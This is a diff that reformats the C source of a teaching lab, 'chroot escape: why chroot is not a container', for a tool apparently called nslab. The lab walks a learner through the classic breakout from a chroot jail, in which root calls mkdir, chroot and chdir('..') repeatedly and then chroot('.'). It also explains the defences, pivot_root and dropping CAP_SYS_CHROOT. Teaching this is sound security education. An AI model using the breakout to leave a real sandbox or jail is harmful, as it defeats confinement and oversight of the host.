@@ -27,7 +27,7 @@
 #define MAX_DEPTH 16 /* process tree depth searched below the lab process */
 
 static const char *const jail_programs[] = {
-	"/bin/sh", "/bin/ls", "/bin/cat", "/bin/mkdir", "/bin/pwd", "/bin/readlink", "/bin/sleep", "/bin/stat",
+    "/bin/sh", "/bin/ls", "/bin/cat", "/bin/mkdir", "/bin/pwd", "/bin/readlink", "/bin/sleep", "/bin/stat",
 };
 
 /* --- small helpers --- */
@@ -200,7 +200,8 @@ static int cmd_chroot(struct nslab_host *h, int argc, char **argv)
 	char root[PATH_MAX], cwd[PATH_MAX];
 	proc_target(h->main_pid(h), "root", root, sizeof(root));
 	proc_target(h->main_pid(h), "cwd", cwd, sizeof(cwd));
-	h->print(h, "the lab process's root is now %s; its working directory is still %s (host paths)\n", root, cwd);
+	h->print(h, "the lab process's root is now %s; its working directory is still %s (host paths)\n",
+		 root, cwd);
 	return 0;
 }
 
@@ -251,17 +252,19 @@ static int cmd_escape(struct nslab_host *h, int argc, char **argv)
 		h->error(h, "PID %d did not get out (is %s in the jail?)", (int)pid, ESCAPE_BIN);
 		return -1;
 	}
-	h->print(h, "PID %d (%s %s) escaped: its root is the host's /. Try `host ls -l /proc/%d/root`\n", (int)pid,
-		 ESCAPED_CMD, ESCAPED_ARG, (int)pid);
+	h->print(h, "PID %d (%s %s) escaped: its root is the host's /. Try `host ls -l /proc/%d/root`\n",
+		 (int)pid, ESCAPED_CMD, ESCAPED_ARG, (int)pid);
 	return 0;
 }
 
 static const struct nslab_command commands[] = {
-	{"escape", "escape", "start `" ESCAPE_BIN " " ESCAPED_CMD " " ESCAPED_ARG "` from the lab process, and show it",
-	 0, 0, cmd_escape},
-	{"chroot", "chroot DIR", "make the lab process call chroot(DIR) (its working directory stays)", 1, 1,
-	 cmd_chroot},
-	{"cd", "cd [DIR]", "make the lab process call chdir(DIR) (later `run` commands start there)", 0, 1, cmd_cd},
+    {"escape", "escape",
+     "start `" ESCAPE_BIN " " ESCAPED_CMD " " ESCAPED_ARG "` from the lab process, and show it", 0, 0,
+     cmd_escape},
+    {"chroot", "chroot DIR", "make the lab process call chroot(DIR) (its working directory stays)", 1, 1,
+     cmd_chroot},
+    {"cd", "cd [DIR]", "make the lab process call chdir(DIR) (later `run` commands start there)", 0, 1,
+     cmd_cd},
 };
 
 /* --- steps --- */
@@ -281,8 +284,10 @@ static bool check_once(struct nslab_host *h)
 	if (n == 2 && stat("/", &host) == 0 && dev == (unsigned long long)host.st_dev &&
 	    ino == (unsigned long long)host.st_ino)
 		return true;
-	h->missing(h, "the escape program has not reached the host's / from the jail yet (it notes that in "
-		      "%s/reached): `run " ESCAPE_BIN " -v ls /`", ESCAPE_DIR);
+	h->missing(h,
+		   "the escape program has not reached the host's / from the jail yet (it notes that in "
+		   "%s/reached): `run " ESCAPE_BIN " -v ls /`",
+		   ESCAPE_DIR);
 	return false;
 }
 
@@ -319,8 +324,11 @@ static bool check_by_hand(struct nslab_host *h)
 		return true;
 	char root[PATH_MAX];
 	proc_target(main, "root", root, sizeof(root));
-	h->missing(h, "the lab process (PID %d) still has %s as its root: `chroot /out`, `cd ../../../../../../..`, "
-		      "`chroot .`", (int)main, root);
+	h->missing(
+	    h,
+	    "the lab process (PID %d) still has %s as its root: `chroot /out`, `cd ../../../../../../..`, "
+	    "`chroot .`",
+	    (int)main, root);
 	return false;
 }
 
@@ -386,7 +394,8 @@ static int escape_setup(struct nslab_host *h)
 	if (h->call(h, h->main_pid(h), agent_chroot_cd_root, root, strlen(root) + 1, NULL, 0) < 0) {
 		int err = errno;
 		h->error(h, "chroot %s in the lab process failed: %s%s", root, strerror(err),
-			 err == EPERM ? " (chroot needs CAP_SYS_CHROOT: run nslab as root, e.g. with sudo)" : "");
+			 err == EPERM ? " (chroot needs CAP_SYS_CHROOT: run nslab as root, e.g. with sudo)"
+				      : "");
 		return -1;
 	}
 	h->trace(h, "chroot(\"%s\") = 0", root);
@@ -395,92 +404,92 @@ static int escape_setup(struct nslab_host *h)
 }
 
 static const struct nslab_step steps[] = {
-	{
-		.title = "Escape once",
-		.task = "nslab built a jail like the one from the chroot lab (a shell, ls, cat, ...)\n"
-			"and chrooted the lab process into it. The jail also holds " ESCAPE_BIN ", a\n"
-			"small static program. Look around, then run it:\n"
-			"\n"
-			"  run ls /                     (the jail)\n"
-			"  run cd ../../.. ; ls         (still the jail)\n"
-			"  run " ESCAPE_BIN " -v ls /    (the host's /)\n"
-			"  run ls /                     (the jail again: only that command got out)\n"
-			"  run ls -a /                  (it left /.nslab-escape behind)",
-		.hint = "-v makes the escape program print each system call it makes.",
-		.explain = "The escape program did, as root inside the jail:\n"
-			   "  mkdir(\".nslab-escape\")   a directory inside the jail\n"
-			   "  chroot(\".nslab-escape\")  the root moves down, the working directory\n"
-			   "                           does not: it is now ABOVE the root\n"
-			   "  chdir(\"..\") many times   \"..\" stops only at the root, and the walk\n"
-			   "                           never meets it again: it ends at the real /\n"
-			   "  chroot(\".\")              the real / is the root again; then execve(ls)\n"
-			   "chroot(2) changes the root used for path lookup and nothing else; its manual\n"
-			   "page says it does not change the working directory. Root inside the jail\n"
-			   "still holds CAP_SYS_CHROOT, so it may call chroot as often as it likes.",
-		.check = check_once,
-		.perform = do_once,
-	},
-	{
-		.title = "Keep a process outside",
-		.task = "A process that escaped stays escaped. Start one that lives on, and look at\n"
-			"it from the host:\n"
-			"\n"
-			"  escape                                 (" ESCAPE_BIN " sleep 3600)\n"
-			"  host ls -l /proc/$NSLAB_LAB_PID/root   (the jail)\n"
-			"  host ls -l /proc/PID/root              (PID as printed: /)\n"
-			"  ns PID",
-		.hint = "`escape` is a command of this lab; it prints the escaped process's PID and\n"
-			"adds it to the pane. The check looks for an escaped process below the lab\n"
-			"process: one started with `run ... &` is handed to nslab when its shell\n"
-			"exits, so use `escape`.",
-		.explain = "/proc/PID/root shows the root directory of any process. The lab process\n"
-			   "points into the jail, its escaped child at /. `ns` shows that neither\n"
-			   "differs from the host in any namespace: chroot isolated nothing to begin\n"
-			   "with. The escaped process is plain root on the host: it can read /etc/shadow\n"
-			   "or load kernel modules. (Even inside the jail it could kill any host\n"
-			   "process: chroot hides files, not processes.)",
-		.check = check_running,
-		.perform = do_running,
-	},
-	{
-		.title = "Escape by hand",
-		.task = "Now make the lab process itself escape, one system call at a time (chroot\n"
-			"and cd are commands of this lab: the lab process makes the call):\n"
-			"\n"
-			"  run mkdir -p /out\n"
-			"  chroot /out                  (the working directory is now outside it)\n"
-			"  cd ../../../../../../../..   (climb to the real /)\n"
-			"  chroot .\n"
-			"  run ls /\n"
-			"\n"
-			"Between the two chroots `run` cannot work: /out holds no shell.",
-		.hint = "If you are stuck between the chroots, keep going: `cd` with enough \"..\",\n"
-			"then `chroot .`. `reset` starts the lab over.",
-		.explain = "The same four calls as the program, made by the lab process: /proc/PID/root\n"
-			   "now points at /. The fix is not a better chroot but a different tool:\n"
-			   "pivot_root(2) in a new mount namespace swaps the root mount itself: the old\n"
-			   "root moves to put_old and stays mounted until umount2(MNT_DETACH) detaches\n"
-			   "it; after that there is nothing left above / to climb to (the pivot-root\n"
-			   "lab). Dropping CAP_SYS_CHROOT takes the first chroot away. Being root only\n"
-			   "inside a user namespace does not: that root holds CAP_SYS_CHROOT in its\n"
-			   "namespace, and the climb still reaches the top of its mount namespace.",
-		.check = check_by_hand,
-		.perform = do_by_hand,
-	},
+    {
+	.title = "Escape once",
+	.task = "nslab built a jail like the one from the chroot lab (a shell, ls, cat, ...)\n"
+		"and chrooted the lab process into it. The jail also holds " ESCAPE_BIN ", a\n"
+		"small static program. Look around, then run it:\n"
+		"\n"
+		"  run ls /                     (the jail)\n"
+		"  run cd ../../.. ; ls         (still the jail)\n"
+		"  run " ESCAPE_BIN " -v ls /    (the host's /)\n"
+		"  run ls /                     (the jail again: only that command got out)\n"
+		"  run ls -a /                  (it left /.nslab-escape behind)",
+	.hint = "-v makes the escape program print each system call it makes.",
+	.explain = "The escape program did, as root inside the jail:\n"
+		   "  mkdir(\".nslab-escape\")   a directory inside the jail\n"
+		   "  chroot(\".nslab-escape\")  the root moves down, the working directory\n"
+		   "                           does not: it is now ABOVE the root\n"
+		   "  chdir(\"..\") many times   \"..\" stops only at the root, and the walk\n"
+		   "                           never meets it again: it ends at the real /\n"
+		   "  chroot(\".\")              the real / is the root again; then execve(ls)\n"
+		   "chroot(2) changes the root used for path lookup and nothing else; its manual\n"
+		   "page says it does not change the working directory. Root inside the jail\n"
+		   "still holds CAP_SYS_CHROOT, so it may call chroot as often as it likes.",
+	.check = check_once,
+	.perform = do_once,
+    },
+    {
+	.title = "Keep a process outside",
+	.task = "A process that escaped stays escaped. Start one that lives on, and look at\n"
+		"it from the host:\n"
+		"\n"
+		"  escape                                 (" ESCAPE_BIN " sleep 3600)\n"
+		"  host ls -l /proc/$NSLAB_LAB_PID/root   (the jail)\n"
+		"  host ls -l /proc/PID/root              (PID as printed: /)\n"
+		"  ns PID",
+	.hint = "`escape` is a command of this lab; it prints the escaped process's PID and\n"
+		"adds it to the pane. The check looks for an escaped process below the lab\n"
+		"process: one started with `run ... &` is handed to nslab when its shell\n"
+		"exits, so use `escape`.",
+	.explain = "/proc/PID/root shows the root directory of any process. The lab process\n"
+		   "points into the jail, its escaped child at /. `ns` shows that neither\n"
+		   "differs from the host in any namespace: chroot isolated nothing to begin\n"
+		   "with. The escaped process is plain root on the host: it can read /etc/shadow\n"
+		   "or load kernel modules. (Even inside the jail it could kill any host\n"
+		   "process: chroot hides files, not processes.)",
+	.check = check_running,
+	.perform = do_running,
+    },
+    {
+	.title = "Escape by hand",
+	.task = "Now make the lab process itself escape, one system call at a time (chroot\n"
+		"and cd are commands of this lab: the lab process makes the call):\n"
+		"\n"
+		"  run mkdir -p /out\n"
+		"  chroot /out                  (the working directory is now outside it)\n"
+		"  cd ../../../../../../../..   (climb to the real /)\n"
+		"  chroot .\n"
+		"  run ls /\n"
+		"\n"
+		"Between the two chroots `run` cannot work: /out holds no shell.",
+	.hint = "If you are stuck between the chroots, keep going: `cd` with enough \"..\",\n"
+		"then `chroot .`. `reset` starts the lab over.",
+	.explain = "The same four calls as the program, made by the lab process: /proc/PID/root\n"
+		   "now points at /. The fix is not a better chroot but a different tool:\n"
+		   "pivot_root(2) in a new mount namespace swaps the root mount itself: the old\n"
+		   "root moves to put_old and stays mounted until umount2(MNT_DETACH) detaches\n"
+		   "it; after that there is nothing left above / to climb to (the pivot-root\n"
+		   "lab). Dropping CAP_SYS_CHROOT takes the first chroot away. Being root only\n"
+		   "inside a user namespace does not: that root holds CAP_SYS_CHROOT in its\n"
+		   "namespace, and the climb still reaches the top of its mount namespace.",
+	.check = check_by_hand,
+	.perform = do_by_hand,
+    },
 };
 
 static const struct nslab_lab escape_lab = {
-	.abi_major = NSLAB_ABI_MAJOR,
-	.size = sizeof(struct nslab_lab),
-	.id = "chroot-escape",
-	.title = "chroot escape: why chroot is not a container",
-	.summary = "A chroot jail holds only processes that cannot call chroot themselves. As root inside the "
-		   "jail you make a directory, chroot into it, and since the working directory stays outside "
-		   "the new root, `..` climbs all the way up to the host's /.",
-	.order = 20,
-	NSLAB_STEPS(steps),
-	.setup = escape_setup,
-	NSLAB_COMMANDS(commands),
+    .abi_major = NSLAB_ABI_MAJOR,
+    .size = sizeof(struct nslab_lab),
+    .id = "chroot-escape",
+    .title = "chroot escape: why chroot is not a container",
+    .summary = "A chroot jail holds only processes that cannot call chroot themselves. As root inside the "
+	       "jail you make a directory, chroot into it, and since the working directory stays outside "
+	       "the new root, `..` climbs all the way up to the host's /.",
+    .order = 20,
+    NSLAB_STEPS(steps),
+    .setup = escape_setup,
+    NSLAB_COMMANDS(commands),
 };
 
 NSLAB_LAB(escape_lab)
